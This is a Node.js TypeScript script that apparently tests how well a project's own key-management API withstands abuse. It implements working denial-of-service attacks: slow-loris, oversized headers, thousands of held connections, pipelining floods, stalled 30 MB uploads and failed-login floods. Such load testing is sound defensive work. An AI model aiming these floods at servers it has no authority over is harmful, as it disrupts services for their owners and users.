import { connect, type Socket } from "node:net";
import { constants, setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack.ts";

const [url = "", attack = "", milliseconds = "", viewer = ""] = process.argv.slice(2);
// What attackers compute must not be taken from the server and its good client, also where `aside` can do nothing.
setPriority(constants.priority.PRIORITY_LOW);
const { hostname, port, host } = new URL(url);
let until = Number.POSITIVE_INFINITY;
const isOver = () => performance.now() >= until;
let attempts = 0;

const ATTACKS: Readonly<Record<Attack, () => Promise<unknown>>> = {
  /** Headers that never end, a byte at a time. */
  "slow-loris": () =>
    together(500, async () => {
      const socket = await open();
      socket.write(`GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\nX-A: `);
      attempts += 1;
      while (!isOver() && !socket.destroyed) {
        socket.write("a");
        await sleep(100);
      }
      socket.destroy();
    }),
  "oversized-headers": () =>
    together(8, async () => {
      while (!isOver()) {
        const socket = await open();
        socket.write(`GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\nX-A: ${"a".repeat(64_000)}\r\n\r\n`);
        attempts += 1;
        socket.resume();
        await Promise.race([heard(socket, "close"), sleep(1_000)]);
        socket.destroy();
      }
    }),
  "idle-connections": () => sleep(until - performance.now()),
  /** All hang up at once, and the next come. */
  "connection-crowds": async () => {
    while (!isOver()) {
      const crowd = await openCrowd();
      for (const socket of crowd) socket.destroy();
    }
  },
  /** Whoever is cut off comes again. */
  "endless-pipelining": () =>
    together(4, async () => {
      const request = `GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      const requests = request.repeat(500);
      while (!isOver()) {
        const socket = await open();
        socket.on("data", (chunk: Buffer) => {
          attempts += String(chunk).split("HTTP/1.1 ").length - 1;
        });
        while (!isOver() && socket.writable) {
          if (!socket.write(requests))
            await Promise.race([heard(socket, "drain"), heard(socket, "close"), sleep(1_000)]);
        }
        socket.destroy();
      }
    }),
  /** Uploads that announce much and send nothing more. */
  "hanging-uploads": () =>
    together(200, async () => {
      const socket = await open();
      socket.resume();
      const head = `POST /api/upload/create-keys HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
      socket.write(`${head}Content-Length: 30000000\r\n\r\n{"jsonData":[`);
      attempts += 1;
      await Promise.race([heard(socket, "close"), sleep(Math.max(0, until - performance.now()))]);
      socket.destroy();
    }),
  /** Lists that are given up as soon as they come. */
  "list-floods": () => listFloods(""),
  "viewers-list-floods": () => listFloods(`Authorization: Bearer ${viewer}\r\n`),
  "failed-logins": () =>
    together(8, async () => {
      const wrong = `akp_0000000000_${"A".repeat(49)}`;
      const request = `GET /api/keys HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${wrong}\r\n\r\n`;
      while (!isOver()) {
        const socket = await open();
        while (!isOver() && socket.writable) {
          socket.write(request);
          attempts += 1;
          await Promise.race([heard(socket, "data"), heard(socket, "close"), sleep(1_000)]);
        }
        socket.destroy();
      }
    }),
};

async function openCrowd(): Promise<readonly Socket[]> {
  const crowd: Socket[] = [];
  while (crowd.length < 5_000 && !isOver()) {
    crowd.push(...(await Promise.all(Array.from({ length: 100 }, open))));
    attempts += 100;
  }
  return crowd;
}

function listFloods(token: string): Promise<unknown> {
  return together(20, async () => {
    while (!isOver()) {
      const socket = await open();
      socket.write(`GET /api/keys HTTP/1.1\r\nHost: ${host}\r\n${token}\r\n`);
      attempts += 1;
      await Promise.race([heard(socket, "data"), heard(socket, "close"), sleep(1_000)]);
      socket.destroy();
    }
  });
}

if (!(attack in ATTACKS)) throw new Error(`There are ${Object.keys(ATTACKS).join(", ")}`);
const held = attack === "idle-connections" ? await openCrowd() : [];
until = performance.now() + Number(milliseconds);
// Tells that it has begun, and in the end how often it was tried.
console.log("attacking");
await ATTACKS[attack as Attack]();
console.log(attempts);
for (const socket of held) socket.destroy();

function together(count: number, attacker: () => Promise<void>): Promise<unknown> {
  return Promise.all(Array.from({ length: count }, attacker));
}

async function open(): Promise<Socket> {
  const socket = connect(Number(port), hostname);
  socket.on("error", () => {});
  // What has been waited for in vain is still listened for.
  socket.setMaxListeners(0);
  await Promise.race([heard(socket, "connect"), heard(socket, "close")]);
  return socket;
}

/** Unlike `once`, takes a connection that is cut for one that is closed. */
function heard(socket: Socket, event: string): Promise<void> {
  return new Promise((resolve) => void socket.once(event, () => resolve()));
}
